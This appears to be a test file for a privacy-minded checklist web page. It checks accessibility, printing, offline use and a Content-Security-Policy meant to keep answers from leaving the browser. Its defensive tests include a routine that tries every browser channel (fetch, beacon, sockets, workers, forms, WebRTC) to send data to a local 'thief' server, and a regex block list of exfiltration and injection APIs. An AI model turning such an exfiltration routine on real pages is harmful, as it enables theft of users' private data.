// The checklist's page and its safety: whole without scripts, for printing and from a file; and a page that can send nothing.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { pathToFileURL } from 'node:url';
import { root, all, attribute, builtSite, meta, pagesOf, policyOf, tag, temporaryFolder, text, withClass } from './support/site.mjs';
import { serve } from './support/server.mjs';
import { launch, open } from './support/browser.mjs';
import { none } from './support/list.mjs';
import { Reader, nothing, readChecklist, rulesOf, traces } from './support/story.mjs';

const folder = builtSite();
const pages = pagesOf(folder);
const source = pages.find(({ url }) => url === '/checklist/');
const signs = pages.filter(({ kind }) => kind === 'sign');
const practices = pages.filter(({ kind }) => kind === 'practice');
const items = all(source.tree, (element) => attribute(element, 'data-item') !== null);
const wishes = all(source.tree, (element) => attribute(element, 'data-suggested') !== null);
const scripts = all(source.tree, tag('script')).map((script) => attribute(script, 'src')).filter(Boolean);
let browser, server;

before(async () => { server = await serve(folder, { '/unguarded/': '<!doctype html><title>No policy</title>' }); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

const read = (work, options) => readChecklist(browser, server, work, options);

// ---- What is there

test('there is a question for every sign, in its own words, and a wish for every practice', () => {
  const statements = signs.map((sign) => text(all(sign.tree, withClass('pull'))[0]));
  const legends = (list) => list.map((item) => text(all(item, tag('legend'))[0])).sort();
  assert.deepEqual([signs.length, practices.length], [8, 10]);
  assert.deepEqual(legends(items), statements.sort());
  assert.deepEqual(legends(wishes), practices.map(({ h1 }) => h1).sort());
});

test('every question is a group of its own with four labelled answers, a box to keep it back, and a link to its page', () => {
  none([...items, ...wishes].flatMap((item) => {
    const wrong = [];
    const labels = all(item, tag('label')).filter((label) => all(label, tag('input')).length === 1 && text(label));
    const radios = all(item, (element) => attribute(element, 'type') === 'radio');
    if (item.tagName !== 'fieldset' || !text(all(item, tag('legend'))[0])) wrong.push('no legend');
    if (labels.length !== all(item, tag('input')).length) wrong.push('a box without a label');
    if (items.includes(item) && radios.map((radio) => attribute(radio, 'value')).join() !== 'not,sometimes,often,skip') wrong.push('other answers');
    if (all(item, (element) => attribute(element, 'data-keep') !== null).length !== 1) wrong.push('nothing keeps it back');
    if (!all(item, withClass('about')).some((about) => all(about, tag('a')).length === 1)) wrong.push('no link');
    return wrong.map((what) => `${attribute(item, 'data-title')}: ${what}`);
  }), 'wrong questions');
});

test('nothing is answered beforehand, and nothing must be', async () => {
  const inputs = [...items, ...wishes].flatMap((item) => all(item, tag('input')));
  none(inputs.filter((input) => ['checked', 'required', 'aria-required'].some((name) => attribute(input, name) !== null)).map((input) => attribute(input, 'id')), 'answered in the source');
  await read(async ({ page }) => assert.equal(await page.locator(':is([data-item], [data-suggested]) input:checked').count(), 0));
});

test('the safety note stands above every screen, whatever is answered', () => read(async (reader, { page }) => {
  const note = page.locator('.safety');
  const before = await note.innerText();
  assert.match(before, /afraid/);
  const isAbove = async () => assert.ok((await note.boundingBox()).y < (await page.locator('[data-step]:not([hidden])').boundingBox()).y && await note.isVisible());
  await isAbove();
  await reader.takeTurns({ answers: { 0: 'often' } }, { answers: { 0: 'often' } }, 'both');
  await isAbove();
  assert.equal(await note.innerText(), before);
}));

test('what explains the checklist stands below its first screen, and says what it keeps and how to see that it sends nothing', () => read(async (reader, { page }) => {
  assert.ok((await page.locator('.prose').boundingBox()).y > (await page.locator('[data-step=start]').boundingBox()).y);
  const said = await page.locator('.private').innerText();
  assert.match(said, /connect-src/);
  assert.match(said, /switch off the network/);
  assert.match(meta(source, 'content-security-policy'), /connect-src 'none'/);
}));

test('the button that prints, prints', () => read(async (reader, { page }) => {
  await page.evaluate(() => { window.print = () => { window.printed = true; }; });
  await reader.takeTurns({}, {}, 'both');
  await reader.press('print');
  assert.equal(await page.evaluate(() => window.printed), true);
}));

// ---- Without scripts, on paper, from a file

test('without scripts every question, every suggestion with its reason and every practice can be read, and no button is there that does nothing', async () => {
  const { page, close } = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
  assert.equal(await page.locator('main :is(button, summary):visible').count(), 0);
  const read_ = (await page.locator('main').innerText()).replace(/\s+/g, ' ');
  const words = [...items, ...wishes].map((item) => text(all(item, tag('legend'))[0]));
  const reasons = items.flatMap((item) => all(item, withClass('why')).map(text));
  assert.ok(reasons.length >= 16);
  none([...words, ...reasons].filter((one) => !read_.includes(one)), 'what cannot be read');
  assert.equal(await page.locator('form input[type=radio]:visible').count(), 4 * items.length);
  assert.ok(await page.locator('main a[href="/checklist/sheet/"]:visible').count() > 0);
  await close();
});

const plain = (words) => words.normalize('NFKC').replace(/[\s\u00ad\u2010-]/g, '');

/** The text of the page on paper. */
async function print(page) {
  const file = path.join(temporaryFolder('checklist'), 'page.pdf');
  await page.pdf({ path: file, format: 'A4' });
  const read = spawnSync('pdftotext', ['-raw', file, '-'], { encoding: 'utf8' });
  assert.equal(read.status, 0, read.stderr);
  return plain(read.stdout);
}

const titles = (list) => list.map((item) => attribute(item, 'data-title'));
const printed = (paper, list) => titles(list).flatMap((title, i) => (paper.includes(plain(title)) ? [i] : []));

test('without scripts every question prints', async () => {
  const { page, close } = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
  const paper = await print(page);
  assert.deepEqual([printed(paper, items).length, printed(paper, wishes).length], [items.length, wishes.length]);
  await close();
});

test('what will be asked stands once on the first screen, below the ways to begin, and on paper; without scripts it is the questions alone', async () => {
  await read(async (reader, { page }) => {
    const asked = page.locator('.asks li');
    assert.deepEqual(await asked.allInnerTexts(), titles(items));
    assert.ok((await page.locator('.asks').boundingBox()).y > (await page.locator('.ways').boundingBox()).y);
    assert.equal(await page.locator('.asks :is(input, button)').count(), 0);
    const paper = await print(page);
    assert.deepEqual(printed(paper, items), items.map((_, i) => i));
    assert.deepEqual(printed(paper, wishes), []);
    await reader.press('turns');
    assert.equal(await asked.first().isVisible(), false);
    assert.deepEqual(printed(await print(page), items), []);
  });
  const { page, close } = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
  assert.equal(await page.locator('.asks').isVisible(), false);
  await close();
});

test('before both have seen it together no answer prints, but where the blank sheet is; afterwards only what both agreed to', () => read(async (reader, { page }) => {
  const note = plain('Answers print only after both have seen them together');
  const assertNothingPrints = async () => {
    const paper = await print(page);
    assert.ok(paper.includes(note) && paper.includes(plain('/checklist/sheet/')));
    assert.deepEqual(printed(paper, items), []);
    assert.match(paper, /afraid/);
  };
  await reader.begin('turns', 'both');
  await reader.answer({ 0: 'often', 1: 'often' });
  await assertNothingPrints();
  await reader.fillIn({ wishes: [0] });
  await assertNothingPrints();
  await reader.press('passed');
  // A wish of one alone, of a practice that nothing else leads to here.
  const led = (await rulesOf(page)).items[0].leads.map(([practice]) => practice);
  const wish = wishes.findIndex((_, i) => i > 0 && !led.includes(i));
  await reader.fillIn({ answers: { 0: 'sometimes', 2: 'often' }, wishes: [0, wish] });
  await assertNothingPrints();
  await reader.press('compare');
  const paper = await print(page);
  assert.deepEqual(printed(paper, items), [0]);
  assert.ok(!paper.includes(note));
  assert.ok(printed(paper, wishes).includes(0) && !printed(paper, wishes).includes(wish));
}));

/** The page with its styles and scripts beside it, as a reader saves it. */
function saveAsFile() {
  const saved = temporaryFolder('saved');
  fs.cpSync(folder, saved, { recursive: true });
  const html = source.source.replace(/(href|src)="\/(?!\/)/g, '$1="../').replace(/\.\.\/"/g, '../index.html"');
  fs.writeFileSync(path.join(saved, 'checklist/index.html'), html);
  return pathToFileURL(path.join(saved, 'checklist/index.html')).href;
}

test('from a file the whole story works, and nothing is kept, because all files share one store', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (error) => errors.push(String(error)));
  await page.goto(saveAsFile());
  const reader = new Reader(page);
  await reader.begin('turns', 'both');
  await reader.answer({ 0: 'often' });
  assert.match(await reader.said(), /keeps nothing/);
  await reader.fillIn({ wishes: [1] });
  await reader.press('passed');
  await reader.fillIn({ answers: { 0: 'often' }, wishes: [1] });
  await reader.press('compare');
  assert.equal((await reader.suggested())[0], 1);
  const { session, local } = await traces(page);
  assert.deepEqual({ session, local, errors }, { session: {}, local: {}, errors: [] });
  await reader.press('erase');
  assert.deepEqual(await traces(page), nothing);
  await context.close();
});

test('from a file a copy of the tab has nothing to show, nor has the tab itself after a way there and back', async () => {
  const { context, page } = await open(browser, saveAsFile());
  const reader = new Reader(page);
  await reader.begin('turns', 'both');
  await reader.answer({ 0: 'often' });
  const coming = page.waitForEvent('popup');
  await page.evaluate(() => { window.open(document.URL); });
  const copy = await coming;
  await copy.waitForLoadState();
  assert.deepEqual(await traces(copy), nothing);
  await page.goto('about:blank');
  await page.goBack();
  assert.deepEqual(await traces(page), nothing);
  await context.close();
});

// ---- What leaves: nothing

test('the page forbids itself every connection, every form, every frame and every worker', () => {
  const policy = policyOf(source);
  for (const name of ['default-src', 'connect-src', 'form-action']) assert.equal(policy[name], "'none'", name);
  assert.doesNotMatch(meta(source, 'content-security-policy'), /unsafe|https?:|\*/);
});

test('a file that is made on the page has an address only as a link that saves it', () => read(async (reader, { page }) => {
  await reader.begin('turns');
  await reader.answer({ 0: 'often' });
  const links = await page.locator('a[href^="blob:"]').evaluateAll((list) => list.map(({ id, download }) => [id, download]));
  assert.deepEqual(links, [['hearth--export', 'answers.json']]);
}));

test('the form leads nowhere, and browsers are asked to remember nothing of it', () => {
  const form = all(source.tree, tag('form'))[0];
  assert.deepEqual([attribute(form, 'action'), attribute(form, 'method'), attribute(form, 'autocomplete')], [null, null, 'off']);
  none(all(source.tree, (element) => ['text', 'date'].includes(attribute(element, 'type')) && attribute(element, 'autocomplete') !== 'off').map((input) => attribute(input, 'id')), 'fields that browsers remember');
  none(all(form, tag('button')).filter((button) => attribute(button, 'type') !== 'button').map(text), 'buttons that send');
});

/** Names by which a script could send something, lead away, make code of text, or write where others read. */
const ways = /fetch|XMLHttp|WebSocket|WebTransport|EventSource|sendBeacon|RTC|Worker|location|history|navigat|\bopen\s*\((?!rules)|window\.open|\.submit\b|requestSubmit|innerHTML|outerHTML|insertAdjacent|setHTML|createContextualFragment|DOMParser|document\.write|\beval\b|Function\s*\(|import\s*[(]|\bImage\b|Audio|cookie|postMessage|BroadcastChannel|indexedDB|caches|clipboard|\.src\b|srcset|\.action\b|setTimeout\s*\(\s*["']|document\.title|\.ping\b/;
const withoutComments = (script) => script.replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|\s)\/\/.*$/gm, '$1');

test('no line of the checklist’s scripts could send anything, lead away, or make code or markup of a text', () => {
  // The page loads them as one, and the script that may take the copy of the guide away.
  assert.deepEqual(scripts.map((src) => src.replace(/^\/assets\/(.*)\.\w+\.js$/, '$1')).sort(), ['checklist', 'offline']);
  const theme = path.join(root, 'themes', 'hearth');
  const [, list] = /"checklist\.js" = \[([^\]]*)\]/.exec(fs.readFileSync(path.join(theme, 'theme.toml'), 'utf8'));
  const parts = [...list.matchAll(/"(.*?)"/g)].map(([, part]) => part);
  assert.ok(parts.length >= 9);
  const lines = parts.flatMap((src) => withoutComments(fs.readFileSync(path.join(theme, 'assets', src), 'utf8')).split('\n').map((line) => [src, line.trim()]));
  none(lines.filter(([, line]) => ways.test(line)).map(([src, line]) => `${src}: ${line}`), 'ways out');
  const links = lines.filter(([, line]) => /\.href\s*=|\bhref:|createObjectURL|setAttribute\(\s*["']href/.test(line)).map(([, line]) => line);
  assert.deepEqual(links, ['const linkTo = (part) => make("a", [titleOf(part)], { href: addressOf(part) });', 'files[id] = URL.createObjectURL(new Blob([text], { type }));', 'link.href = files[id];']);
  const downloads = all(source.tree, (element) => ['hearth--export', 'hearth--calendar'].includes(attribute(element, 'id')));
  assert.ok(downloads.length === 2 && downloads.every((link) => attribute(link, 'href') === null), 'what is made here is only ever saved');
  for (const way of ['location.href = x', 'window.open(x)', 'open("x")', 'fetch(x)', 'new Image()', 'new RTCPeerConnection()', 'form.submit()', 'eval(x)', 'part.innerHTML = x', 'import("x")']) assert.match(way, ways);
});

/** Every way in which a page can send something; each carries its name to the thief. */
function sendEverywhere(thief) {
  const add = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    (document.body ?? document.documentElement).append(element);
    return element;
  };
  fetch(thief + 'fetch', { mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon(thief + 'beacon', 'often');
  new Image().src = thief + 'image';
  new EventSource(thief + 'events').onerror = (event) => event.target.close();
  try { new WebSocket(thief.replace('http', 'ws') + 'socket'); } catch { /* refused at once */ }
  add('link', { rel: 'stylesheet', href: thief + 'style' });
  add('script', { src: thief + 'script' });
  add('link', { rel: 'prefetch', href: thief + 'prefetch' });
  const program = new Blob([`fetch('${thief}worker', { mode: 'no-cors' })`], { type: 'text/javascript' });
  try { new Worker(URL.createObjectURL(program)).onerror = (event) => event.preventDefault(); } catch { /* refused at once */ }
  add('iframe', { src: thief + 'frame' });
  add('object', { data: thief + 'object' });
  add('video', { src: thief + 'media' });
  const frame = add('iframe', { name: 'aside' });
  frame.removeAttribute('src');
  add('form', { action: thief + 'form', method: 'post', target: 'aside' }).submit();
}

test('code smuggled into the page could send nothing: no request, no beacon, no picture, no form, no socket, no worker, no prefetch', async () => {
  const ways = ['fetch', 'beacon', 'image', 'events', 'socket', 'style', 'script', 'frame', 'object', 'media', 'form', 'worker', 'prefetch'];
  const thief = await listen(ways);
  const context = await browser.newContext();
  const guarded = await context.newPage();
  await guarded.goto(server.origin + '/checklist/');
  await guarded.evaluate(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.blockedURI));
  });
  await guarded.evaluate(sendEverywhere, thief.address);
  await guarded.waitForFunction((count) => window.refused.length >= count, ways.length);
  assert.deepEqual([...thief.arrived], [], 'something arrived');

  // Without a policy all of it arrives; else this test would be blind.
  const unguarded = await context.newPage();
  await unguarded.goto(server.origin + '/unguarded/');
  await unguarded.evaluate(sendEverywhere, thief.address);
  await thief.all;
  await context.close();
  thief.close();
});

/** A foreign server that remembers what reached it; `all` is kept once every one of the ways did. */
async function listen(ways) {
  const arrived = new Set();
  let enough;
  const complete = new Promise((resolve) => { enough = resolve; });
  const note = (request) => { arrived.add(request.url.slice(1)); if (ways.every((way) => arrived.has(way))) enough(); };
  const thief = http.createServer((request, response) => { note(request); response.end(); });
  thief.on('upgrade', (request, socket) => { note(request); socket.destroy(); });
  await new Promise((listening) => thief.listen(0, '127.0.0.1', listening));
  const close = () => { thief.closeAllConnections(); thief.close(); };
  return { address: `http://127.0.0.1:${thief.address().port}/`, arrived, all: complete, close };
}

test('what the policy cannot stop is known: leading away, a new window and calls by WebRTC; so no script of the page has a line for it', async () => {
  const thief = await listen(['away', 'window']);
  const socket = dgram.createSocket('udp4');
  const called = new Promise((done) => socket.once('message', done));
  await new Promise((bound) => socket.bind(0, '127.0.0.1', bound));
  const context = await browser.newContext();
  const guarded = await context.newPage();
  await guarded.goto(server.origin + '/checklist/');
  await guarded.evaluate(async ([address, port]) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    window.call = call;
    call.createDataChannel('away');
    await call.setLocalDescription();
  }, [thief.address, socket.address().port]);
  await called;
  await guarded.evaluate((address) => { window.open(address + 'window'); window.location.href = address + 'away'; }, thief.address);
  await thief.all;
  for (const way of ['RTCPeerConnection', 'window.open(', 'window.location']) assert.match(way, ways);
  await context.close();
  socket.close();
  thief.close();
});
